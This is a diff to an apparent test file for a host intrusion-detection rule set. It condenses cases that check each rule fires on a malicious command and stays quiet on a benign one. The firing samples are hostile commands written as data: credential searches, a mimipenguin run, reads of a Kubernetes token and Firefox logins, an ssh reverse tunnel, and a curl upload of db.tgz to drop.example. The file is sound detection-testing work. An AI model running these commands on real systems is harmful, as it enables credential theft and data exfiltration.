@@ -12,6 +12,7 @@ import assert from "node:assert/strict";
 import {
   type Case,
   exec,
+  execCases,
   file,
   type Json,
   one,
@@ -69,22 +70,17 @@ const CASES: Case[] = [
     steps: (p) => one(file(p, "unix_chkpwd", "open", "/etc/shadow")),
   },
   { name: "cat /etc/passwd", steps: (p) => one(file(p, "cat", "open", "/etc/passwd")) },
-  {
-    name: "grep -ri password",
-    fires: "credential-access-recursive-grep-for-secrets",
-    steps: (p) => one(exec(p, "grep", ["grep", "-ri", "password", "/srv/app"])),
-  },
-  { name: "grep -r todo", steps: (p) => one(exec(p, "grep", ["grep", "-r", "todo", "notes"])) },
-  {
-    name: "grep password in one file",
-    steps: (p) => one(exec(p, "grep", ["grep", "password", "/etc/login.defs"])),
-  },
-  {
-    name: "find id_rsa",
-    fires: "credential-access-private-key-file-search",
-    steps: (p) => one(exec(p, "find", ["find", "/", "-name", "id_rsa"])),
-  },
-  { name: "find *.c", steps: (p) => one(exec(p, "find", ["find", ".", "-name", "*.c"])) },
+  ...execCases(
+    "credential-access-recursive-grep-for-secrets",
+    "grep -ri password /srv/app",
+    "grep -r todo notes",
+    "grep password /etc/login.defs",
+  ),
+  ...execCases(
+    "credential-access-private-key-file-search",
+    "find / -name id_rsa",
+    "find . -name *.c",
+  ),
   {
     name: "update-ca-certificates finds *.pem",
     steps: (p) =>
@@ -97,15 +93,11 @@ const CASES: Case[] = [
         ),
       ),
   },
-  {
-    name: "mimipenguin",
-    fires: "credential-access-credential-dumper-tool",
-    steps: (p) => one(exec(p, "python3", ["python3", "/tmp/x/mimipenguin.py"])),
-  },
-  {
-    name: "ls of a mimipenguin checkout",
-    steps: (p) => one(exec(p, "ls", ["ls", "/src/mimipenguin/"])),
-  },
+  ...execCases(
+    "credential-access-credential-dumper-tool",
+    "python3 /tmp/x/mimipenguin.py",
+    "ls /src/mimipenguin/",
+  ),
   {
     name: "five failed logins then a success",
     fires: "credential-access-pam-brute-force-then-success",
@@ -174,19 +166,12 @@ const CASES: Case[] = [
     name: "nineteen refused connections",
     steps: (p) => times(19, (i) => connect(p, "python3", "10.0.0.9", 1000 + i, "failure")),
   },
-  {
-    name: "ssh -R",
-    fires: "command-and-control-ssh-port-forwarding",
-    steps: (p) => one(exec(p, "ssh", ["ssh", "-N", "-R", "9000:localhost:22", "gw.example"])),
-  },
-  {
-    name: "ssh -l admin",
-    steps: (p) => one(exec(p, "ssh", ["ssh", "-l", "admin", "db.example"])),
-  },
-  {
-    name: "ssh -L",
-    steps: (p) => one(exec(p, "ssh", ["ssh", "-L", "8080:localhost:80", "web.example"])),
-  },
+  ...execCases(
+    "command-and-control-ssh-port-forwarding",
+    "ssh -N -R 9000:localhost:22 gw.example",
+    "ssh -l admin db.example",
+    "ssh -L 8080:localhost:80 web.example",
+  ),
   {
     name: "bash connects out on 4444",
     fires: "command-and-control-shell-network-connection",
@@ -253,42 +238,23 @@ const CASES: Case[] = [
     name: "systemctl restart nginx",
     steps: (p) => one(exec(p, "systemctl", ["systemctl", "restart", "nginx"])),
   },
-  {
-    name: "passwd -l",
-    fires: "impact-account-access-removal",
-    steps: (p) => one(exec(p, "passwd", ["passwd", "-l", "bob"])),
-  },
-  { name: "passwd -e", steps: (p) => one(exec(p, "passwd", ["passwd", "-e", "bob"])) },
-  {
-    name: "usermod -e in the future",
-    steps: (p) => one(exec(p, "usermod", ["usermod", "-e", "2030-01-01", "bob"])),
-  },
-  {
-    name: "service account token read",
-    fires: "credential-access-kubernetes-service-account-token",
-    steps: (p) =>
-      one(exec(p, "cat", ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"])),
-  },
-  {
-    name: "service account namespace read",
-    steps: (p) =>
-      one(exec(p, "cat", ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/namespace"])),
-  },
-  {
-    name: "Firefox logins copied",
-    fires: "credential-access-browser-credential-store-access",
-    steps: (p) => one(exec(p, "cp", ["cp", "/home/u/.mozilla/firefox/x.default/logins.json", "."])),
-  },
-  {
-    name: "Firefox preferences copied",
-    steps: (p) => one(exec(p, "cp", ["cp", "/home/u/.mozilla/firefox/x.default/prefs.js", "."])),
-  },
-  {
-    name: "aws sts get-caller-identity",
-    fires: "discovery-cloud-identity-enumeration",
-    steps: (p) => one(exec(p, "aws", ["aws", "sts", "get-caller-identity"])),
-  },
-  { name: "aws s3 ls", steps: (p) => one(exec(p, "aws", ["aws", "s3", "ls"])) },
+  ...execCases(
+    "impact-account-access-removal",
+    "passwd -l bob",
+    "passwd -e bob",
+    "usermod -e 2030-01-01 bob",
+  ),
+  ...execCases(
+    "credential-access-kubernetes-service-account-token",
+    "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
+    "cat /var/run/secrets/kubernetes.io/serviceaccount/namespace",
+  ),
+  ...execCases(
+    "credential-access-browser-credential-store-access",
+    "cp /home/u/.mozilla/firefox/x.default/logins.json .",
+    "cp /home/u/.mozilla/firefox/x.default/prefs.js .",
+  ),
+  ...execCases("discovery-cloud-identity-enumeration", "aws sts get-caller-identity", "aws s3 ls"),
   {
     name: "shutdown -h now",
     fires: "impact-system-shutdown-or-reboot",
@@ -299,15 +265,11 @@ const CASES: Case[] = [
     steps: (p) => one(exec(p, "shutdown", ["shutdown", "-r", "now"], "unattended-upgr")),
   },
   { name: "atd reads /etc/shadow", steps: (p) => one(file(p, "atd", "open", "/etc/shadow")) },
-  {
-    name: "curl -T",
-    fires: "exfiltration-curl-wget-file-upload",
-    steps: (p) => one(exec(p, "curl", ["curl", "-T", "db.tgz", "https://drop.example/"])),
-  },
-  {
-    name: "curl download",
-    steps: (p) => one(exec(p, "curl", ["curl", "-fsSL", "-o", "x.tgz", "https://example.com/x"])),
-  },
+  ...execCases(
+    "exfiltration-curl-wget-file-upload",
+    "curl -T db.tgz https://drop.example/",
+    "curl -fsSL -o x.tgz https://example.com/x",
+  ),
 ];
 
 function withParent(body: Json, parentPid: number): Json {
